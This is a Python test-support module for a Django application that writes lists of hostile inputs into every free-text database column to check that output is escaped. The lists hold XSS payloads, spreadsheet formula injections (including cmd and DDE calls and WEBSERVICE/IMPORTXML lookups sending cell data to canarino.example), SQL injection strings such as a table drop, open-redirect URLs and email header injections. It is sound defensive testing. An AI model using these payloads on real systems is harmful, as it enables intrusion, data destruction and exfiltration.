"""What attackers write (S-01): at least twenty texts for each class, and a world in which all are written."""

from django.apps import apps
from django.db import DatabaseError, models, transaction

# Of the long lookup tables the first rows are enough.
PRIME = 40
NOSTRE = ("nucleo", "sportelli", "pratiche", "circolari", "calendario", "feedback")

# Each would run `canarino()`, or bring in an element or an attribute.
CODICE = [
    "<script>canarino()</script>",
    '"><script src=//canarino.example></script>',
    '"><img src=x onerror=canarino()>',
    "'><img src=x onerror='canarino()'>",
    '" onmouseover="canarino()" x="',
    "' onfocus='canarino()' autofocus x='",
    "<svg/onload=canarino()>",
    "<svg><script>canarino()</script></svg>",
    "<math><mi xlink:href='javascript:canarino()'>x</mi></math>",
    "<iframe srcdoc='<script>parent.canarino()</script>'>",
    "<object data='javascript:canarino()'>",
    "<embed src='data:text/html,<script>canarino()</script>'>",
    "<a href='javascript:canarino()'>qui</a>",
    "javascript:canarino()",
    "JaVaScRiPt&colon;canarino()",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcmlubygpPC9zY3JpcHQ+",
    "<base href='https://canarino.example/'>",
    "<meta http-equiv=refresh content='0;url=https://canarino.example'>",
    "<link rel=stylesheet href=//canarino.example/x.css>",
    "<style>@import '//canarino.example/x.css'</style>",
    "</title><script>canarino()</script>",
    "</textarea><script>canarino()</script>",
    "</script><script>canarino()</script>",
    "<!--><script>canarino()</script-->",
    "<form action=//canarino.example><button>Invia</button></form>",
    "<input onfocus=canarino() autofocus>",
    "<details open ontoggle=canarino()>",
    "<template shadowrootmode=open><script>canarino()</script></template>",
    "{{ ''.__class__ }}{% load static %}",
    "\ufeff<script\x0c>canarino()</script>",
    "＜script＞canarino()＜/script＞",
    "\u2028</p><b>canarino\u202e",
    '<b hx-get="//canarino.example" hx-trigger="load">x</b>',
    "`${canarino()}`",
]

# Each would be run by a spreadsheet that opens the file (CWE-1236).
FORMULE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SOMMA(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://canarino.example?x="&A1;"qui")',
    '=IMPORTXML(CONCAT("https://canarino.example/",A1),"//a")',
    '=WEBSERVICE("https://canarino.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "%0A=1+1",
    '";=1+1',
    "+39 055 000=1",
    "-2+3+cmd|' /C calc'!D2",
    "@canarino",
]

# Each would end a string, an identifier or a number of a query, or ask for what is not on the list.
DOMANDE = [
    "'",
    "''",
    '"',
    "\\",
    "';--",
    "' or '1'='1",
    "1 or 1=1",
    "1; drop table pratiche_pratica",
    "1)) union select password from sportelli_utente--",
    "-(select pg_sleep(9))",
    "pg_sleep(9)",
    "case when 1=1 then pk else numero end",
    "pk",
    "-pk",
    "?",
    "sportello__gruppo__name",
    "azienda__contatti__email",
    "assegnata_a__password",
    "-assegnata_a__password",
    "numero,pk",
    "numero--",
    "%27 or 1=1",
    "$$canarino$$",
    "E'\\x27'",
    "null",
    "[]",
    '{"$gt": ""}',
    "__class__",
    "9" * 400,
    "-1",
    "1e309",
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
]

# Each would lead away from our own site.
ALTROVE = [
    "https://canarino.example/",
    "http://canarino.example",
    "//canarino.example",
    "///canarino.example",
    "////canarino.example/%2e%2e",
    "/\\canarino.example",
    "\\\\canarino.example",
    "\\/canarino.example",
    "/\t/canarino.example",
    "/\n/canarino.example",
    "\t//canarino.example",
    " //canarino.example",
    "\x00//canarino.example",
    "https:canarino.example",
    "https:/canarino.example",
    "https:///canarino.example",
    "HTTPS://canarino.example",
    "https://testserver@canarino.example/",
    "https://testserver.canarino.example/",
    "https://canarino.example#testserver",
    "https://canarino.example?testserver",
    "javascript:canarino()",
    "java\nscript:canarino()",
    "data:text/html,canarino",
    "vbscript:canarino()",
    "ftp://canarino.example",
    "canarino.example",
    "@canarino.example",
    "//canarino.example\\@testserver",
    "//[::1]/canarino",
    "http:\\\\canarino.example",
]

# Each would begin another header, or another recipient, of an e-mail.
RIGHE = [
    "a\r\nBcc: canarino@canarino.example",
    "a\nBcc: canarino@canarino.example",
    "a\rBcc: canarino@canarino.example",
    "a\r\n\r\ncanarino",
    "a\n\ncanarino",
    "a\r\n Bcc: canarino@canarino.example",
    "a\x0bBcc: canarino@canarino.example",
    "a\x0cBcc: canarino@canarino.example",
    "a\x1cBcc: canarino@canarino.example",
    "a\x85Bcc: canarino@canarino.example",
    "a\u2028Bcc: canarino@canarino.example",
    "a\u2029Bcc: canarino@canarino.example",
    "a%0d%0aBcc: canarino@canarino.example",
    "a\\r\\nBcc: canarino@canarino.example",
    "a, canarino@canarino.example",
    "a <canarino@canarino.example>",
    'a" <canarino@canarino.example>, "b',
    "a;canarino@canarino.example",
    "=?utf-8?q?a=0D=0ABcc:_canarino=40canarino.example?=",
    "=?utf-8?b?YQ0KQmNjOiBjYW5hcmlub0BjYW5hcmluby5leGFtcGxl?=",
    "a\r\nContent-Type: text/html\r\n\r\n<b>canarino</b>",
    "a\r\nFrom: canarino@canarino.example",
    "a\r\nReply-To: canarino@canarino.example",
    "a\r\n.\r\nMAIL FROM:<canarino@canarino.example>",
]


def avvelena(testi):
    """Writes `testi`, in turn, into every free text of every row: what got in by whatever way is there.

    A long text gets them all. Returns the columns written, as «sportelli.azienda.note». What the database
    refuses (a check, a log that only grows) stays as it was.
    """
    scritte, n = set(), 0
    for modello in apps.get_models():
        if modello._meta.app_label not in NOSTRE or modello._meta.label_lower.endswith("event"):
            continue
        for campo in filter(_libero, modello._meta.local_concrete_fields):
            for pk in modello._base_manager.values_list("pk", flat=True)[:PRIME]:
                n += 1
                if _scrivi(modello, pk, campo, testi, n):
                    scritte.add(f"{modello._meta.label_lower}.{campo.name}")
    return scritte


def _libero(campo):
    """A column in which people write words: neither a choice nor a key nor an address."""
    parole = isinstance(campo, models.CharField | models.TextField)
    altro = isinstance(campo, models.EmailField | models.SlugField | models.URLField | models.FileField)
    return parole and not altro and not campo.choices and not campo.unique and campo.name not in CHIAVI


# Words of the program, not of people; senders are checked where they come in (tests/posta/test_accoda.py).
CHIAVI = (
    *("password", "impronta", "tipo", "intestazioni", "genere", "chiave", "argomento", "indirizzo_pagina"),
    *("mittente", "rispondi_a", "message_id", "html", "html_en", "ics", "ics_en", "timbro_ics", "filtro"),
    *("etag", "modificata", "ricorrenza", "modificata_esterna", "proposta_come", "derivazione"),
    *("valore", "sistema", "identificativo_esterno"),
)


def _scrivi(modello, pk, campo, testi, n):
    scelto = testi[n % len(testi)]
    testo = "\n".join([scelto, *testi]) if campo.max_length is None else scelto[: campo.max_length]
    try:
        with transaction.atomic():
            modello._base_manager.filter(pk=pk).update(**{campo.name: testo.replace("\x00", "")})
    except DatabaseError:
        return False
    return True
